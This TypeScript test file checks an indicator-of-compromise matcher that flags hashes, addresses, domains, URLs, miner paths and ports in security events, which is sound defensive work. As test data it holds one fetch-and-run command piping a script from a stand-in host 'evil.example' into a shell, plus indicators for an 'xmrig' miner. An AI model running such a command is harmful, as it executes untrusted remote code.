import assert from 'node:assert/strict';
import { test } from 'node:test';
import { seededRandom } from '@vigil/common';
import type { IndicatorType } from './core.js';
import { createIocMatcher, type MatchableIndicator } from './matcher.js';
import { parseAddress, parseCidr } from './internal/ip.js';

const ind = (id: string, type: IndicatorType, value: string): MatchableIndicator => ({ id, type, value });
const ids = (hits: { indicator: MatchableIndicator }[]) => hits.map((h) => h.indicator.id).sort();

test('every type matches its fields', () => {
  const m = createIocMatcher([
    ind('md5', 'md5', 'd41d8cd98f00b204e9800998ecf8427e'),
    ind('sha1', 'sha1', 'da39a3ee5e6b4b0d3255bfef95601890afd80709'),
    ind('sha256', 'sha256', 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'),
    ind('ip', 'ip', '203.0.113.7'),
    ind('ip6', 'ip', '2001:db8::7'),
    ind('cidr', 'cidr', '198.51.100.0/24'),
    ind('domain', 'domain', 'evil.example'),
    ind('url', 'url', 'http://evil.example/payload.sh'),
    ind('file', 'file_name', 'payload.bin'),
    ind('path', 'path', '/tmp/.hidden/miner'),
    ind('proc', 'process_name', 'xmrig'),
    ind('port', 'port', '4444'),
  ]);
  assert.deepEqual(ids(m.match({ 'process.hash.md5': 'D41D8CD98F00B204E9800998ECF8427E' })), ['md5']);
  assert.deepEqual(ids(m.match({ 'file.hash.sha1': 'da39a3ee5e6b4b0d3255bfef95601890afd80709' })), ['sha1']);
  assert.deepEqual(ids(m.match({ 'dll.hash.sha256': 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855' })), ['sha256']);
  assert.deepEqual(ids(m.match({ 'destination.ip': '203.0.113.7', 'destination.port': 4444 })), ['ip', 'port']);
  assert.deepEqual(ids(m.match({ 'destination.ip': '2001:0db8:0:0:0:0:0:7' })), ['ip6']);
  assert.deepEqual(ids(m.match({ 'source.ip': '::ffff:203.0.113.7' })), ['ip']);
  assert.deepEqual(ids(m.match({ 'destination.ip': '198.51.100.250' })), ['cidr']);
  assert.deepEqual(ids(m.match({ 'destination.ip': '198.51.101.1' })), []);
  assert.deepEqual(ids(m.match({ 'dns.question.name': 'a.b.EVIL.example.' })), ['domain']);
  assert.deepEqual(ids(m.match({ 'dns.question.name': 'notevil.example' })), [], 'a suffix that is not a label boundary does not match');
  assert.deepEqual(ids(m.match({ 'dns.resolved_ip': ['192.0.2.1', '198.51.100.3'] })), ['cidr']);
  assert.deepEqual(ids(m.match({ 'process.command_line': "sh -c 'curl -s HTTP://evil.example/payload.sh | sh'" })), ['url']);
  assert.deepEqual(ids(m.match({ 'file.name': 'Payload.BIN' })), ['file']);
  assert.deepEqual(ids(m.match({ 'process.executable': '/tmp/.hidden/miner', 'process.name': 'XMRig' })), ['path', 'proc']);
  assert.deepEqual(ids(m.match({ 'process.executable': '/tmp/.hidden/MINER' })), [], 'paths are case-sensitive');
  assert.deepEqual(ids(m.match({ 'destination.ip': 12345, 'dns.question.name': {}, 'process.name': null })), [], 'odd field values never throw');
  const hit = m.match({ 'dns.question.name': 'x.evil.example' })[0]!;
  assert.equal(hit.field, 'dns.question.name');
  assert.equal(hit.value, 'x.evil.example');
});

test('nested CIDRs and subdomains all match, each indicator once', () => {
  const m = createIocMatcher([
    ind('a', 'cidr', '10.0.0.0/8'), ind('b', 'cidr', '10.1.0.0/16'), ind('c', 'cidr', '10.1.2.0/24'), ind('d', 'ip', '10.1.2.3'), ind('v6', 'cidr', '2001:db8::/32'), ind('v6b', 'cidr', '2001:db8:1::/48'),
    ind('e', 'domain', 'example'), ind('f', 'domain', 'evil.example'), ind('g', 'domain', 'c2.evil.example'),
  ]);
  assert.deepEqual(ids(m.match({ 'destination.ip': '10.1.2.3', 'source.ip': '10.1.2.3' })), ['a', 'b', 'c', 'd']);
  assert.deepEqual(ids(m.match({ 'destination.ip': '2001:db8:1:2::5' })), ['v6', 'v6b']);
  assert.deepEqual(ids(m.match({ 'destination.ip': '2001:db9::5' })), []);
  assert.deepEqual(ids(m.match({ 'dns.question.name': 'x.c2.evil.example', 'destination.domain': 'c2.evil.example' })), ['e', 'f', 'g']);
});

test('incremental add, replace and remove', () => {
  const m = createIocMatcher<MatchableIndicator>();
  assert.equal(m.size, 0);
  assert.deepEqual(m.match({ 'destination.ip': '10.0.0.1' }), []);
  m.add([ind('x', 'ip', '10.0.0.1'), ind('y', 'ip', '10.0.0.1'), ind('z', 'cidr', '10.0.0.0/8')]);
  assert.deepEqual(ids(m.match({ 'destination.ip': '10.0.0.1' })), ['x', 'y', 'z']);
  m.add([ind('x', 'domain', 'evil.example')]);
  assert.deepEqual(ids(m.match({ 'destination.ip': '10.0.0.1' })), ['y', 'z'], 'x was replaced by a domain');
  assert.deepEqual(ids(m.match({ 'dns.question.name': 'evil.example' })), ['x']);
  m.remove(['y', 'z', 'unknown']);
  assert.deepEqual(ids(m.match({ 'destination.ip': '10.0.0.1' })), []);
  m.remove(['x']);
  assert.deepEqual(m.match({ 'dns.question.name': 'evil.example' }), []);
  assert.equal(m.size, 0);
  assert.deepEqual(Object.values(m.counts()).reduce((a, b) => a + b, 0), 0);
});

/** The obvious implementation the matcher must agree with. */
function naiveMatch(indicators: MatchableIndicator[], event: Record<string, string>): string[] {
  const out = new Set<string>();
  for (const i of indicators) {
    for (const value of Object.values(event)) {
      if (i.type === 'cidr') {
        const cidr = parseCidr(i.value)!;
        const address = parseAddress(value);
        if (!address || address.family !== cidr.family) continue;
        let inside = true;
        for (let bit = 0; bit < cidr.prefix; bit++) {
          const a = (address.bytes[bit >> 3]! >> (7 - (bit & 7))) & 1;
          const b = (cidr.bytes[bit >> 3]! >> (7 - (bit & 7))) & 1;
          if (a !== b) inside = false;
        }
        if (inside) out.add(i.id);
      } else if (i.type === 'domain') {
        if (value === i.value || value.endsWith(`.${i.value}`)) out.add(i.id);
      } else if (value === i.value) out.add(i.id);
    }
  }
  return [...out].sort();
}

test('property: the tries agree with a naive scan over random CIDRs, addresses and domains', () => {
  const random = seededRandom(42);
  const byte = () => Math.floor(random() * 4); // few distinct values so that prefixes nest and collide
  const v4 = () => `10.${byte()}.${byte()}.${byte()}`;
  const v6 = () => `2001:db8:${byte()}:${byte()}::${byte()}`;
  const labels = ['a', 'b', 'evil', 'example', 'c2'];
  const domain = () => Array.from({ length: 1 + Math.floor(random() * 4) }, () => labels[Math.floor(random() * labels.length)]).join('.');
  for (let round = 0; round < 30; round++) {
    const indicators: MatchableIndicator[] = [];
    for (let i = 0; i < 60; i++) {
      const r = random();
      const id = `i${round}-${i}`;
      if (r < 0.3) indicators.push(ind(id, 'cidr', `10.${byte()}.${byte()}.0/${8 + Math.floor(random() * 25)}`));
      else if (r < 0.45) indicators.push(ind(id, 'cidr', `2001:db8:${byte()}::/${32 + Math.floor(random() * 40)}`));
      else if (r < 0.6) indicators.push(ind(id, 'ip', v4()));
      else indicators.push(ind(id, 'domain', domain()));
    }
    const canonical = indicators;
    const m = createIocMatcher(canonical);
    const removed = canonical.filter(() => random() < 0.2);
    m.remove(removed.map((i) => i.id));
    const live = canonical.filter((i) => !removed.includes(i));
    for (let e = 0; e < 200; e++) {
      const event = { 'destination.ip': random() < 0.5 ? v4() : v6(), 'dns.question.name': domain() };
      assert.deepEqual(ids(m.match(event)), naiveMatch(live, event), JSON.stringify(event));
    }
  }
});
